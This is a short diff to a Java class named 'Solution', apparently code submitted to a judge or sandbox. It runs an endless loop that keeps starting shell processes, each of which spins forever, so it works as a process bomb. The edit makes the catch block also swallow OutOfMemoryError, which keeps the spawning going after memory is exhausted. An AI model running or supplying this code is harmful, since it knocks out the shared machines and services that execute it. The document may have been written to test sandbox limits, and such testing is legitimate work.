@@ -5,7 +5,7 @@ class Solution {
         while (true) {
             try {
                 new ProcessBuilder("/bin/sh", "-c", "while :; do :; done").start();
-            } catch (java.io.IOException full) {
+            } catch (java.io.IOException | OutOfMemoryError full) {
             }
         }
     }
